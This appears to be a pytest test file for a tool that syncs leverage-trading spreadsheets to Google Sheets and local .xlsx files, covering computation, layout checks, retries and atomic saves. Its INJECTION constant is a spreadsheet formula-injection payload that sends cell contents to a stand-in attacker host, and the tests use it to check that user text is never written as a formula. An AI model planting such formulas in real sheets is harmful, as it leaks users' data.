"""The Sheets bridge against the fake Google Sheets server (real gspread over HTTP) and against
a local .xlsx: the same behavioural tests run on both backends."""

from __future__ import annotations

import copy
import math
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fake_sheets import FakeSheets, make_client

import leverage_sheets as sb
from bench.measure import naive_sync, sample_grids
from leverage import journal, portfolio
from leverage.errors import InputError
from leverage.layout import (
    JOURNAL_EVENTS,
    JOURNAL_SUMMARY,
    REBALANCE_POSITIONS,
    SUMMARY_TOTALS,
    TEMPLATES,
    account_row,
)
from leverage_sheets.backend import Grid

INJECTION = '=IMPORTXML("http://attacker.invalid/?q="&A1,"//a")'


# The client's timeout where the clock is not the subject: generous, so a busy machine's slow
# answer (10,000 rows) is never taken for a stall and retried.
HEALTHY = 120.0


def instant(policy_sleeps: list[float]) -> Callable[[float], None]:
    return policy_sleeps.append


class Book:
    """One spreadsheet on either backend, with a way to look at it from outside the bridge."""

    def __init__(self, kind: str, fake: FakeSheets, tmp: Path, grids: dict[str, Grid],
                 policy: sb.RetryPolicy | None = None, timeout: float = HEALTHY) -> None:
        self.kind, self.fake = kind, fake
        self.sleeps: list[float] = []
        self.policy = policy or sb.RetryPolicy(max_attempts=4, timeout=timeout,
                                               sleep=self.sleeps.append)
        if kind == "google":
            self.key = fake.create_spreadsheet("book", sheets=grids)
            self.backend: Any = sb.open_google(self.key, client=make_client(fake, timeout=2),
                                               policy=self.policy)
        else:
            self.path = tmp / "book.xlsx"
            sb.open_local(self.path).lay_out("journal" if "Events" in grids else "rebalance",
                                             grids)
            self.backend = sb.open_local(self.path)

    def values(self, title: str) -> Grid:
        if self.kind == "google":
            return [list(r) for r in self.fake.values(self.key, title)]
        ws = openpyxl.load_workbook(self.path)[title]
        rows = [[c.value for c in row] for row in ws.iter_rows()]
        while rows and all(v is None for v in rows[-1]):
            rows.pop()
        return rows

    def set(self, title: str, row: int, col: int, value: Any) -> None:
        """Type into a cell as the trader would (1-based)."""
        if self.kind == "google":
            client = make_client(self.fake)
            ws = client.open_by_key(self.key).worksheet(title)
            ws.update(values=[[value]], range_name=f"{openpyxl.utils.get_column_letter(col)}{row}",
                      value_input_option="RAW")
        else:
            wb = openpyxl.load_workbook(self.path)
            wb[title].cell(row=row, column=col).value = value
            wb.save(self.path)


@pytest.fixture(params=["google", "xlsx"])
def kind(request: pytest.FixtureRequest) -> str:
    return request.param


def make(kind: str, fake: FakeSheets, tmp_path: Path, grids: dict[str, Grid], **kw: Any) -> Book:
    return Book(kind, fake, tmp_path, copy.deepcopy(grids), **kw)


def _inputs(book: Book, title: str, sheet: Any) -> list[list[Any]]:
    """The input columns of a sheet, as stored."""
    idx = [sheet.index(k) for k in sheet.keys("input")]
    return [[row[i] if i < len(row) else None for i in idx] for row in book.values(title)]


def _computed(book: Book, title: str, sheet: Any) -> list[list[Any]]:
    idx = [sheet.index(k) for k in sheet.keys("computed")]
    return [[row[i] if i < len(row) else None for i in idx] for row in book.values(title)[1:]]


def _blank(v: Any) -> Any:
    return None if v == "" else v


# ------------------------------------------------------------------------ computing


def test_journal_sync_writes_what_the_core_computes(kind: str, fake: FakeSheets,
                                                    tmp_path: Path) -> None:
    grids = sample_grids("journal", 45)
    book = make(kind, fake, tmp_path, grids)
    report = book.backend and sb.sync(book.backend, "journal")
    assert (report.rows_read, report.rows_computed, report.rows_with_errors) == (45, 45, 0)
    keys = JOURNAL_EVENTS.keys("input")
    events = [dict(zip(keys, r[: len(keys)], strict=True)) for r in grids["Events"][1:]]
    positions = [{k: v for k, v in zip(TEMPLATES["journal"][0].keys(), r, strict=True)
                  if v is not None} for r in grids["Positions"][1:]]
    rule = journal.AdjustmentRule(max_leverage=10, min_liq_distance=0.05)
    expected = journal.replay(positions, events, rule)
    summary = journal.summary(positions, events, expected)
    summary_cells = (len(summary.positions) * len(JOURNAL_SUMMARY.columns)
                     + len(summary.totals) * len(SUMMARY_TOTALS.columns))
    assert report.changed
    assert report.cells_written == 45 * len(JOURNAL_EVENTS.keys("computed")) + summary_cells
    got = _computed(book, "Events", JOURNAL_EVENTS)
    for i, row in enumerate(got):
        for j, k in enumerate(JOURNAL_EVENTS.keys("computed")):
            _check_cell(row[j], expected.columns[k][i], (i, k))
    table = book.values("Summary")
    assert table[0][: len(JOURNAL_SUMMARY.columns)] == JOURNAL_SUMMARY.headers
    for i, want in enumerate(summary.positions, start=1):
        for j, k in enumerate(JOURNAL_SUMMARY.keys()):
            _check_cell(table[i][j], want[k], (i, k))
    first = SUMMARY_TOTALS.first_column - 1
    for i, want in enumerate(summary.totals, start=1):
        for j, k in enumerate(SUMMARY_TOTALS.keys()):
            _check_cell(table[i][first + j], want[k], (i, k))


def _check_cell(got: Any, want: Any, where: Any) -> None:
    """A written cell against the core's value: numbers to the last bit an .xlsx keeps,
    nan as blank, dates as the serial number both backends store."""
    from leverage_sheets.backend import serial_date

    want, got = serial_date(want), serial_date(_blank(got))
    if want is None or (isinstance(want, float) and math.isnan(want)):
        assert got is None, where
    elif isinstance(want, int | float) and not isinstance(want, bool):
        assert math.isclose(got, want, rel_tol=1e-14), where
    else:
        assert (got or "") == want, where


def test_rebalance_sync_fills_positions_and_account(kind: str, fake: FakeSheets,
                                                    tmp_path: Path) -> None:
    grids = sample_grids("rebalance", 12)
    book = make(kind, fake, tmp_path, grids)
    report = sb.sync(book.backend, "rebalance")
    assert (report.rows_read, report.rows_with_errors) == (12, 0)
    keys = REBALANCE_POSITIONS.keys("input")
    rows = [dict(zip(keys, r, strict=True)) for r in grids["Positions"][1:]]
    expected = portfolio.rebalance(rows, 50_000.0, 20_000.0)
    account = book.values("Account")
    assert account[0] == ["Item", "Value"]
    row = {key: account_row(key) - 1 for key in expected.account}
    assert math.isclose(account[row["total_notional"]][1], expected.account["total_notional"],
                        rel_tol=1e-14)
    assert math.isclose(account[row["shortfall"]][1], expected.account["shortfall"],
                        rel_tol=1e-12, abs_tol=1e-9)
    got = _computed(book, "Positions", REBALANCE_POSITIONS)
    assert [math.isclose(r[6], m, rel_tol=1e-14) for r, m in
            zip(got, expected.columns["move"], strict=True)] == [True] * 12
    assert sb.sync(book.backend, "rebalance").changed is False


def test_rebalance_sync_writes_liq_probability_and_account_shock(
    kind: str, fake: FakeSheets, tmp_path: Path
) -> None:
    grids = sample_grids("rebalance", 12)
    grids["Account"][account_row("volatility") - 1][1] = 0.8
    grids["Account"][account_row("horizon_days") - 1][1] = 3
    # a cross short, so the account has both sides
    grids["Positions"][2][REBALANCE_POSITIONS.index("margin_mode")] = "cross"
    book = make(kind, fake, tmp_path, grids)
    sb.sync(book.backend, "rebalance")
    keys = REBALANCE_POSITIONS.keys("input")
    rows = [dict(zip(keys, r, strict=True)) for r in grids["Positions"][1:]]
    expected = portfolio.rebalance(rows, 50_000.0, 20_000.0, 0.8, 3)
    want = expected.columns["liq_probability"]
    assert all(0 <= p <= 1 for p in want) and any(0 < p < 1 for p in want)
    col = REBALANCE_POSITIONS.keys("computed").index("liq_probability")
    got = [r[col] for r in _computed(book, "Positions", REBALANCE_POSITIONS)]
    assert got == pytest.approx(want, rel=1e-14)
    account = book.values("Account")
    shock = account[account_row("account_shock") - 1][1]
    assert math.isfinite(expected.account["account_shock"]) and shock != 0
    assert math.isclose(shock, expected.account["account_shock"], rel_tol=1e-14)
    assert account[account_row("shock_position") - 1][1] == expected.account["shock_position"]
    assert sb.sync(book.backend, "rebalance").changed is False


def test_journal_sync_flags_the_new_rules(kind: str, fake: FakeSheets, tmp_path: Path) -> None:
    grids = sample_grids("journal", 45)
    rules = {"add_within_buffer": 0.5, "max_liq_probability": 0.01, "volatility": 0.6,
             "horizon_days": 7}
    for row in grids["Rules"][1:]:
        if row and row[0] in rules:
            row[1] = rules[row[0]]
    book = make(kind, fake, tmp_path, grids)
    sb.sync(book.backend, "journal")
    keys = JOURNAL_EVENTS.keys("input")
    events = [dict(zip(keys, r[: len(keys)], strict=True)) for r in grids["Events"][1:]]
    positions = [{k: v for k, v in zip(TEMPLATES["journal"][0].keys(), r, strict=True)
                  if v is not None} for r in grids["Positions"][1:]]
    rule = journal.AdjustmentRule(max_leverage=10, min_liq_distance=0.05, **rules)
    want = journal.replay(positions, events, rule).columns["rule_breaks"]
    col = JOURNAL_EVENTS.keys("computed").index("rule_breaks")
    got = [_blank(r[col]) or "" for r in _computed(book, "Events", JOURNAL_EVENTS)]
    assert got == want
    flagged = "; ".join(want)
    assert "liquidation probability above max" in flagged
    assert "added while liquidation stays inside the add buffer" in flagged


def test_bad_rows_get_a_message_and_the_others_still_compute(kind: str, fake: FakeSheets,
                                                             tmp_path: Path) -> None:
    grids = sample_grids("journal", 20)
    grids["Positions"].append(["BAD", "ETHUSDT", "sideways", "linear", None, 0.005, 0, None])
    grids["Events"][3][3] = "abc"  # price of an add_margin
    grids["Events"].append([45_100, "NOPE", "open", 100, 1, 10, None, ""])
    grids["Events"].append([45_100, "BAD", "open", 100, 1, 10, None, ""])
    grids["Events"].append([None] * 8)  # a blank row in between is skipped
    grids["Events"].append([45_101, "P1", "explode", 100, 1, 10, None, ""])
    book = make(kind, fake, tmp_path, grids)
    report = sb.sync(book.backend, "journal")
    assert report.rows_read == 23 and report.rows_with_errors == 4
    status = [_blank(r[-1]) for r in _computed(book, "Events", JOURNAL_EVENTS)]
    assert status[2] == "price must be a number, got 'abc'"
    assert status[20] == "position_id must name a row of the positions sheet, got 'NOPE'"
    assert status[21].startswith("position 'BAD' is invalid on the Positions sheet (row 3): side")
    assert status[22] is None
    assert status[23].startswith("event must be one of open")
    assert sum(s is None for s in status) == 20  # 19 good rows + the blank one
    qty = JOURNAL_EVENTS.keys("computed").index("qty_open")
    assert all(isinstance(r[qty], float | int)
               for r in _computed(book, "Events", JOURNAL_EVENTS)[:2])


def test_user_columns_stay_byte_identical(kind: str, fake: FakeSheets, tmp_path: Path) -> None:
    grids = sample_grids("journal", 30)
    reason, width = JOURNAL_EVENTS.index("reason"), len(JOURNAL_EVENTS.columns)
    grids["Events"][5][reason] = INJECTION
    grids["Events"][6][reason] = "  spaces kept  "
    grids["Events"][7][reason] = "'leading quote"
    grids["Events"][1] += [None] * (width - len(grids["Events"][1])) + [
        "my own note right of the layout"]
    book = make(kind, fake, tmp_path, grids)
    typed = [s for s in TEMPLATES["journal"] if s.keys("input")]
    before = {s.title: _inputs(book, s.title, s) for s in typed}
    note_before = book.values("Events")[1][width]
    sb.sync(book.backend, "journal")
    book.set("Events", 10, 4, "oops")  # a later edit, then a second sync
    before["Events"][9][3] = "oops"
    sb.sync(book.backend, "journal")
    for s in typed:
        assert _inputs(book, s.title, s) == before[s.title], s.title
    assert book.values("Events")[1][width] == note_before == "my own note right of the layout"


def _never_a_formula(body: dict[str, Any]) -> bool:
    """A write that no text can turn into a formula: values RAW, or updateCells whose values
    are typed (a stringValue is never parsed) and none a formulaValue."""
    if "valueInputOption" in body:
        return bool(body["valueInputOption"] == "RAW")
    cells = [c for r in body["requests"] for row in r["updateCells"]["rows"]
             for c in row["values"]]
    return all("formulaValue" not in c.get("userEnteredValue", {}) for c in cells)


def test_user_text_is_never_sent_as_a_formula(kind: str, fake: FakeSheets,
                                             tmp_path: Path) -> None:
    grids = sample_grids("journal", 5)
    grids["Events"].append([45_100, INJECTION, "open", 100, 1, 10, None, INJECTION])
    book = make(kind, fake, tmp_path, grids)
    if kind == "google":
        fake.reset_log()
    sb.sync(book.backend, "journal")
    status = book.values("Events")[6][JOURNAL_EVENTS.index("status")]
    cell = JOURNAL_EVENTS.letter("status") + "7"
    assert INJECTION in status  # echoed in the message, as text
    if kind == "google":
        writes = [r for r in fake.requests if r.method in ("POST", "PUT")]
        assert writes and all(_never_a_formula(r.body) for r in writes)
        assert not fake.is_formula(book.key, "Events", cell)
        assert fake.cell_input_mode(book.key, "Events", cell) == "RAW"
    else:
        ws = openpyxl.load_workbook(book.path)["Events"]
        assert ws[cell].data_type == "s" and ws[cell].value == status
        assert ws["B7"].data_type == "s"  # the trader's own text was never reassigned


# ------------------------------------------------------------------------ layout guard


@pytest.mark.parametrize("damage", ["rename", "insert", "missing_tab"])
def test_a_changed_layout_is_refused_and_nothing_written(kind: str, fake: FakeSheets,
                                                         tmp_path: Path, damage: str) -> None:
    grids = sample_grids("journal", 8)
    if damage == "rename":
        grids["Events"][0][JOURNAL_EVENTS.index("margin")] = "My margin"
    elif damage == "insert":
        for row in grids["Events"]:
            row.insert(3, "note")
    else:
        del grids["Rules"]
    book = make(kind, fake, tmp_path, grids) if damage != "missing_tab" or kind == "google" \
        else None
    if book is None:  # a local book without the tab: lay out, then drop it
        book = make(kind, fake, tmp_path, sample_grids("journal", 8))
        wb = openpyxl.load_workbook(book.path)
        del wb["Rules"]
        wb.save(book.path)
    before = book.values("Events")
    with pytest.raises(sb.LayoutError) as err:
        sb.sync(book.backend, "journal")
    msg = str(err.value)
    if damage == "rename":
        cell = JOURNAL_EVENTS.letter("margin") + "1"
        assert f"Events!{cell} must read 'Margin committed', found 'My margin'" in msg
    elif damage == "insert":
        assert "Events!D1 must read 'Price', found 'note'" in msg
    else:
        assert "'Rules'" in msg and "leverage sheets init" in msg
    assert book.values("Events") == before


def test_a_bad_rule_value_names_its_cell(kind: str, fake: FakeSheets, tmp_path: Path) -> None:
    grids = sample_grids("journal", 4)
    grids["Rules"][1][1] = -3
    book = make(kind, fake, tmp_path, grids)
    with pytest.raises(InputError, match=r"Rules!B2 \(max_leverage\)"):
        sb.sync(book.backend, "journal")
    assert all(_blank(v) is None for r in _computed(book, "Events", JOURNAL_EVENTS) for v in r)


def test_a_bad_account_balance_names_its_cell(kind: str, fake: FakeSheets,
                                              tmp_path: Path) -> None:
    grids = sample_grids("rebalance", 3)
    grids["Account"][2][1] = "lots"
    book = make(kind, fake, tmp_path, grids)
    with pytest.raises(InputError, match=r"Account!B3 \(free_balance\): free_balance must be a"):
        sb.sync(book.backend, "rebalance")


# ------------------------------------------------------------------------ requests


@pytest.mark.parametrize("rows", [10, 10_000])
def test_a_sync_costs_two_requests_whatever_the_row_count(fake: FakeSheets, rows: int) -> None:
    book = Book("google", fake, Path("."), sample_grids("journal", rows))
    fake.reset_log()
    report = sb.sync(book.backend, "journal")
    assert report.requests == 2 == len(fake.requests)
    # spreadsheets.get (values, number formats and tab ids) and one :batchUpdate
    assert [r.path.rsplit("/", 1)[-1] for r in fake.requests] == [book.key,
                                                                  f"{book.key}:batchUpdate"]
    fake.reset_log()
    again = sb.sync(book.backend, "journal")
    assert (again.requests, again.changed, len(fake.requests)) == (1, False, 1)


def test_only_changed_rows_are_written(kind: str, fake: FakeSheets, tmp_path: Path) -> None:
    book = make(kind, fake, tmp_path, sample_grids("journal", 40))
    sb.sync(book.backend, "journal")
    book.set("Events", 41, 4, 99_999.0)  # the price of the last event (a close)
    report = sb.sync(book.backend, "journal")
    # its row, and the Summary rows its close changes: the position's and its currency's
    assert report.changed and report.cells_written == (
        len(JOURNAL_EVENTS.keys("computed")) + len(JOURNAL_SUMMARY.columns)
        + len(SUMMARY_TOTALS.columns))


def test_request_counts_against_naive_per_cell_sync(fake: FakeSheets) -> None:
    client = make_client(fake)
    for rows in (10, 300):
        key = fake.create_spreadsheet("bench", sheets=sample_grids("journal", rows))
        assert sb.sync(sb.open_google(key, client=client), "journal").requests == 2
    key = fake.create_spreadsheet("naive", sheets=sample_grids("journal", 5))
    # open + one worksheet lookup and read per tab, then a lookup + update per computed cell
    assert naive_sync(client, key, "journal") >= 5 * 14


# ------------------------------------------------------------------------ faults


FAULTS = ["429", "500", "503", "timeout", "timeout_applied", "reset", "reset_applied"]


# The fake holds a stalled request until the test releases it, and the client waits TIMEOUT
# for that request only, so its timeout is what ends the wait; every other request keeps the
# generous HEALTHY one, however slow a busy machine makes it.
TIMEOUT = 0.5


def _arm(fake: FakeSheets, fault: str, at: int, times: int = 1) -> None:
    if fault.isdigit():
        fake.inject(int(fault), at=at, times=times)
    elif fault.startswith("timeout"):
        fake.inject_timeout(at=at, seconds=None, times=times, applied=fault.endswith("applied"),
                            client_timeout=TIMEOUT)
    else:
        fake.inject_reset(at=at, times=times, applied=fault.endswith("applied"))


@pytest.fixture(scope="module")
def finished(fake: FakeSheets) -> Grid:
    """The Events sheet after a clean sync: the only state besides the old one we accept."""
    book = Book("google", fake, Path("."), sample_grids("journal", 30))
    sb.sync(book.backend, "journal")
    return book.values("Events")


@pytest.mark.parametrize("fault", FAULTS)
@pytest.mark.parametrize("at", [0, 1])
def test_a_fault_at_any_request_leaves_old_or_new_and_a_rerun_converges(
    fake: FakeSheets, finished: Grid, fault: str, at: int
) -> None:
    grids = sample_grids("journal", 30)
    book = Book("google", fake, Path("."), grids,
                policy=sb.RetryPolicy(max_attempts=1, timeout=HEALTHY, sleep=lambda s: None))
    old = book.values("Events")
    _arm(fake, fault, at)
    with pytest.raises(sb.RequestFailed) as err:
        sb.sync(book.backend, "journal")
    fake.clear_faults()
    assert book.values("Events") in (old, finished)
    assert ("nothing was written" in str(err.value)) == (at == 0)
    assert ("timed out" in str(err.value)) == fault.startswith("timeout")
    sb.sync(book.backend, "journal")
    assert book.values("Events") == finished


@pytest.mark.parametrize("fault", FAULTS)
def test_retries_ride_out_transient_faults(fake: FakeSheets, finished: Grid, fault: str) -> None:
    book = Book("google", fake, Path("."), sample_grids("journal", 30))
    fake.reset_log()
    _arm(fake, fault, at=1, times=2)  # the write fails twice, then goes through
    report = sb.sync(book.backend, "journal")
    fake.clear_faults()  # releases the held requests
    assert report.requests == 4 == len(fake.requests)
    assert book.values("Events") == finished
    assert len(book.sleeps) == 2 and book.sleeps[0] < book.sleeps[1] * 2


def test_a_permanent_429_gives_up_after_max_attempts(fake: FakeSheets) -> None:
    book = Book("google", fake, Path("."), sample_grids("journal", 3))
    fake.reset_log()
    fake.inject(429, times=20)
    with pytest.raises(sb.RequestFailed, match=r"HTTP 429 Too Many Requests.*after 4 attempts"):
        sb.sync(book.backend, "journal")
    fake.clear_faults()
    assert len(fake.requests) == 4 and len(book.sleeps) == 3


def test_permission_errors_are_not_retried_and_read_clearly(fake: FakeSheets) -> None:
    book = Book("google", fake, Path("."), sample_grids("journal", 3))
    fake.reset_log()
    fake.inject(403)
    with pytest.raises(sb.SheetsError, match="share the spreadsheet with the service account"):
        sb.sync(book.backend, "journal")
    assert len(fake.requests) == 1 and book.sleeps == []


def test_backoff_is_capped_jittered_and_honours_retry_after() -> None:
    low = sb.RetryPolicy(base_delay=1, max_delay=8, random=lambda: 0.0)
    high = sb.RetryPolicy(base_delay=1, max_delay=8, random=lambda: 0.999999)
    assert [low.delay(n) for n in range(1, 7)] == [0.5, 1, 2, 4, 4, 4]
    assert [round(high.delay(n), 3) for n in range(1, 7)] == [1, 2, 4, 8, 8, 8]
    assert low.delay(1, retry_after=5) == 5 and low.delay(1, retry_after=60) == 8
    with pytest.raises(InputError, match="max_attempts must be an integer >= 1, got 0"):
        sb.RetryPolicy(max_attempts=0)


def test_local_save_is_atomic(fake: FakeSheets, tmp_path: Path,
                              monkeypatch: pytest.MonkeyPatch) -> None:
    book = make("xlsx", fake, tmp_path, sample_grids("journal", 12))
    before = book.path.read_bytes()

    def crash(src: Any, dst: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(OSError, match="disk full"):
        sb.sync(book.backend, "journal")
    monkeypatch.undo()
    assert book.path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["book.xlsx"]  # no temp file left
    assert sb.sync(book.backend, "journal").changed
    assert sb.sync(book.backend, "journal").changed is False


def test_local_sync_keeps_formats_and_drop_downs(fake: FakeSheets, tmp_path: Path) -> None:
    book = make("xlsx", fake, tmp_path, sample_grids("journal", 12))
    sb.sync(book.backend, "journal")
    ws = openpyxl.load_workbook(book.path)["Events"]
    assert ws.freeze_panes == "A2"
    dist, qty = JOURNAL_EVENTS.letter("liq_distance"), JOURNAL_EVENTS.letter("qty_open")
    assert ws[f"{dist}2"].number_format == "0.00%" and ws[f"{qty}2"].value == 1.0
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    assert lists["C2:C1001"].startswith('"open,increase,add_margin')


# ------------------------------------------------------------------------ init, watch, CLI


def test_init_lays_out_google_tabs_and_is_idempotent(fake: FakeSheets) -> None:
    key = fake.create_spreadsheet("new", sheets={"Sheet1": [["keep me"]]})
    backend = sb.open_google(key, client=make_client(fake))
    sb.init(backend, "rebalance", sample=True)
    assert backend.sheet_titles() == ["Instructions", "Sheet1", "Account", "Positions"]
    assert fake.values(key, "Positions")[0] == REBALANCE_POSITIONS.headers
    assert fake.values(key, "Sheet1") == [["keep me"]]
    kinds = {next(iter(r)) for r in fake.batch_requests(key)}
    assert {"addSheet", "repeatCell", "setDataValidation", "updateDimensionProperties",
            "addProtectedRange"} <= kinds
    assert fake.sheet_properties(key, "Positions")["gridProperties"]["frozenRowCount"] == 1
    assert fake.cell_input_mode(key, "Positions", "A2") == "RAW"
    report = sb.sync(backend, "rebalance")
    assert report.rows_read > 0 and report.rows_with_errors == 0
    fake.reset_log()
    sb.init(backend, "rebalance", sample=True)  # again: formats refreshed, rows untouched
    assert backend.sheet_titles() == ["Instructions", "Sheet1", "Account", "Positions"]
    assert sb.sync(backend, "rebalance").changed is False


def test_init_refuses_a_tab_with_other_headers(kind: str, fake: FakeSheets,
                                               tmp_path: Path) -> None:
    if kind == "google":
        key = fake.create_spreadsheet("x", sheets={"Positions": [["Ticker", "Size"]]})
        backend: Any = sb.open_google(key, client=make_client(fake))
    else:
        wb = openpyxl.Workbook()
        wb.active.title = "Positions"
        wb.active.append(["Ticker", "Size"])
        wb.save(tmp_path / "x.xlsx")
        backend = sb.open_local(tmp_path / "x.xlsx")
    titles = backend.sheet_titles()
    with pytest.raises(sb.LayoutError, match=r"(tab|sheet) 'Positions' already exists"):
        sb.init(backend, "journal")
    assert backend.sheet_titles() == titles


def test_watch_writes_only_when_inputs_change(kind: str, fake: FakeSheets,
                                              tmp_path: Path) -> None:
    book = make(kind, fake, tmp_path, sample_grids("journal", 20))
    sleeps: list[float] = []
    reports: list[sb.SyncReport] = []
    errors: list[Exception] = []

    def after(report: sb.SyncReport) -> None:
        reports.append(report)
        if len(reports) == 2:
            book.set("Events", 21, 4, "x")  # the trader breaks the last price...
        if len(reports) == 3:
            book.set("Events", 21, 4, 12_345.0)  # ...fixes it, and breaks a rule value
            book.set("Rules", 2, 2, -1)

    def refused(exc: Exception) -> None:
        errors.append(exc)
        book.set("Rules", 2, 2, 10)

    sb.watch(book.backend, "journal", 5, max_runs=5, sleep=sleeps.append, on_report=after,
             on_error=refused)
    assert [r.changed for r in reports] == [True, False, True, True]
    assert sleeps == [5] * 4
    assert len(errors) == 1 and "Rules!B2 (max_leverage)" in str(errors[0])
    mark = JOURNAL_EVENTS.keys("computed").index("mark_price")
    assert _computed(book, "Events", JOURNAL_EVENTS)[19][mark] == 12_345.0
    with pytest.raises(InputError, match="interval must be > 0 seconds"):
        sb.watch(book.backend, "journal", 0)


def test_cli_init_and_sync_a_local_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from leverage.cli import main

    path = str(tmp_path / "j.xlsx")
    assert main(["sheets", "init", "--file", path, "--template", "journal", "--sample"]) == 0
    out = capsys.readouterr().out
    assert "laid out the journal template" in out and "0 with errors" in out
    assert main(["sheets", "sync", "--file", path, "--watch", "0.01", "--max-runs", "2"]) == 0
    assert capsys.readouterr().out.count("no change, nothing written") == 2
    assert main(["sheets", "sync", "--file", path, "--max-runs", "2"]) == 2
    assert "--max-runs needs --watch" in capsys.readouterr().err
    assert main(["sheets", "sync", "--file", str(tmp_path / "j.csv")]) == 2
    assert "path must end in .xlsx" in capsys.readouterr().err


def test_progress_bar_only_when_asked(tmp_path: Path) -> None:
    import io

    book = sb.open_local(tmp_path / "p.xlsx")
    sb.init(book, "journal", sample=True)
    quiet, loud = io.StringIO(), io.StringIO()
    sb.sync(book, "journal", sb.Progress(stream=quiet))  # StringIO is not a terminal
    sb.sync(book, "journal", sb.Progress(True, stream=loud))
    assert quiet.getvalue() == "" and "4/4 done" in loud.getvalue()


def test_init_journal_sample_on_google_writes_dates_as_serials(fake: FakeSheets) -> None:
    key = fake.create_spreadsheet("new")
    backend = sb.open_google(key, client=make_client(fake))
    sb.init(backend, "journal", sample=True)
    first = fake.values(key, "Events")[1]
    assert isinstance(first[0], float) and 40_000 < first[0] < 60_000  # a date, as Sheets counts
    assert fake.values(key, "Rules")[1][0] == "max_leverage"
    report = sb.sync(backend, "journal")
    assert report.rows_read > 0 and report.rows_with_errors == 0 and report.requests == 2


def test_sync_refuses_a_workbook_that_computes_itself(tmp_path) -> None:
    import leverage_templates as templates

    path = templates.build_journal(tmp_path / "journal.xlsx", mode="native")
    before = path.read_bytes()
    backend = sb.open_local(path)
    with pytest.raises(sb.LayoutError, match="holds a formula: this workbook computes its own"):
        sb.sync(backend, "journal")
    assert path.read_bytes() == before


def test_init_highlights_once_on_google(fake: FakeSheets) -> None:
    key = fake.create_spreadsheet("hl", sheets={"Sheet1": [[]]})
    backend = sb.open_google(key, client=make_client(fake))
    sb.init(backend, "journal")
    rules = fake.conditional_formats(key, "Events")
    formulas = [r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules]
    # Google reaches the Rules tab only through INDIRECT
    dist = JOURNAL_EVENTS.letter("liq_distance") + "2"
    assert any('INDIRECT("Rules!B8")' in f and dist in f for f in formulas), formulas
    protected = sum("addProtectedRange" in r for r in fake.batch_requests(key))
    sb.init(backend, "journal")  # again: nothing stacked
    assert len(fake.conditional_formats(key, "Events")) == len(rules) == len(
        JOURNAL_EVENTS.highlights)
    assert sum("addProtectedRange" in r for r in fake.batch_requests(key)) == protected


def test_init_highlights_once_in_a_local_workbook(tmp_path: Path) -> None:
    import openpyxl

    path = tmp_path / "j.xlsx"
    for _ in range(2):
        sb.init(sb.open_local(path), "journal", sample=True)
    ws = openpyxl.load_workbook(path)["Events"]
    rules = [(str(cf.sqref), r.formula[0]) for cf in ws.conditional_formatting for r in cf.rules]
    # the highlights, and the coin-margined rows' money format
    assert len(rules) == len(JOURNAL_EVENTS.highlights) + 1
    d = JOURNAL_EVENTS.letter("liq_distance")
    assert (f"{d}2:{d}1001", f"AND(ISNUMBER({d}2),ISNUMBER(Rules!$B$8),{d}2<Rules!$B$8)") in rules



# ------------------------------------------------------------------------ one style spec


def _excel_rules(ws: Any) -> set[tuple[str, str, str]]:
    """(range, formula, fill colour or number format) of every conditional format of an
    openpyxl sheet."""
    return {(str(cf.sqref), r.formula[0],
             r.dxf.fill.fgColor.rgb[-6:] if r.dxf.fill is not None else r.dxf.numFmt.formatCode)
            for cf in ws.conditional_formatting for r in cf.rules}


def _coin_rules(sheet: Any) -> int:
    """Conditional number formats of ``sheet``'s coin-margined money (the Summary's two
    tables each have one)."""
    from leverage import layout as L

    parts = ((L.JOURNAL_SUMMARY, L.SUMMARY_TOTALS) if sheet.title == L.SUMMARY_SHEET
             else (sheet,))
    return sum(L.coin_money(p) is not None for p in parts)


def test_rebalance_amber_highlight_reaches_both_synced_sheets(
    fake: FakeSheets, tmp_path: Path
) -> None:
    from leverage.layout import AMBER_FILL

    alloc, move = (REBALANCE_POSITIONS.letter(k) for k in ("allocated", "move"))
    formula = f"AND(ISNUMBER({alloc}2),ISNUMBER({move}2),{alloc}2<{move}2)"

    key = fake.create_spreadsheet("hl", sheets={"Sheet1": [[]]})
    sb.init(sb.open_google(key, client=make_client(fake)), "rebalance")
    google = [(r["booleanRule"]["condition"]["values"][0]["userEnteredValue"],
               r["booleanRule"]["format"]["backgroundColor"])
              for r in fake.conditional_formats(key, "Positions")]
    amber = {"red": 0xFF / 255, "green": 0xEB / 255, "blue": 0x9C / 255}
    assert ("=" + formula, amber) in google

    path = tmp_path / "r.xlsx"
    sb.init(sb.open_local(path), "rebalance")
    local = _excel_rules(openpyxl.load_workbook(path)["Positions"])
    assert (f"{alloc}2:{alloc}1001", formula, AMBER_FILL) in local


@pytest.mark.parametrize("template", ["journal", "rebalance"])
def test_synced_and_built_workbooks_share_highlights_and_drop_downs(
    tmp_path: Path, template: str
) -> None:
    import leverage_templates as templates

    build = templates.build_journal if template == "journal" else templates.build_rebalance
    built = openpyxl.load_workbook(build(tmp_path / "built.xlsx", mode="native"))
    sb.init(sb.open_local(tmp_path / "synced.xlsx"), template)
    synced = openpyxl.load_workbook(tmp_path / "synced.xlsx")
    for sheet in TEMPLATES[template]:
        def rules(ws: Any) -> set[tuple[str, str]]:
            return {(f, fill) for _, f, fill in _excel_rules(ws)}

        def lists(ws: Any) -> set[str]:
            return {dv.formula1 for dv in ws.data_validations.dataValidation
                    if dv.type == "list" and dv.formula1.startswith('"')}

        assert rules(built[sheet.title]) == rules(synced[sheet.title])
        assert lists(built[sheet.title]) == lists(synced[sheet.title])
        assert len(rules(synced[sheet.title])) == len(sheet.highlights) + _coin_rules(sheet)


def test_the_bridge_imports_without_lxml(tmp_path: Path) -> None:
    """The [sheets] extra does not install lxml: nothing init (with the worked sample) and
    sync import may need it."""
    import subprocess
    import sys

    script = tmp_path / "no_lxml.py"
    script.write_text(
        "import sys\n"
        "class Block:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'lxml' or name.startswith('lxml.'):\n"
        "            raise ImportError('lxml is blocked')\n"
        "sys.meta_path.insert(0, Block())\n"
        "import leverage_sheets, leverage_sheets.cli\n"
        "from leverage.cli import main\n"
        "book = sys.argv[1]\n"
        "init = ['sheets', 'init', '--file', book, '--template', 'journal', '--sample']\n"
        "assert main(init) == 0\n"
        "assert main(['sheets', 'sync', '--file', book]) == 0\n"
